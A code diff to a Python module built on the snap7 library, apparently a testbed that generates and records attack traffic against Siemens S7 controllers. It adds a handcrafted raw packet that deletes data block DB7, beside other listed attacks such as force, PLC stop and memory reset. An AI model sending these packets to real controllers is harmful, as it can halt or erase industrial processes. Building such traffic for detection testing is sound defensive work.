@@ -32,7 +32,7 @@ from record import (
 )
 from snap7.client import Client
 from snap7.server import Server
-from snap7.type import Area, Block, SrvArea, WordLen
+from snap7.type import Area, SrvArea, WordLen
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -54,6 +54,8 @@ FORCE = bytes.fromhex(
     "02010000000410010000000800090004"
     "4133851f00090002dead000900010100"
 )
+# Block DB7; the library builds another form of it, which controllers do not have.
+DELETE = bytes.fromhex("32010000fe03001a000028000000000000fd000a0100") + b"0A00007B\x05_DELE"
 MEMORY_RESET = bytes.fromhex("32070000fe02000800040001120411410c000a000000")
 
 
@@ -129,7 +131,7 @@ ATTACKS: dict[str, tuple[Host, Callable[[Client], object]]] = {
     "force": (ENGINEERING, _raw(FORCE)),
     "stop": (ROGUE, lambda client: client.plc_stop()),
     "download": (ROGUE, lambda client: client.download(bytearray(64), 1)),
-    "delete-block": (ROGUE, lambda client: client.delete(Block.DB, 7)),
+    "delete-block": (ROGUE, _raw(DELETE)),
     "copy-ram-to-rom": (ROGUE, lambda client: client.copy_ram_to_rom()),
     "compress": (ROGUE, lambda client: client.compress(1000)),
     "memory-reset": (ROGUE, _raw(MEMORY_RESET)),
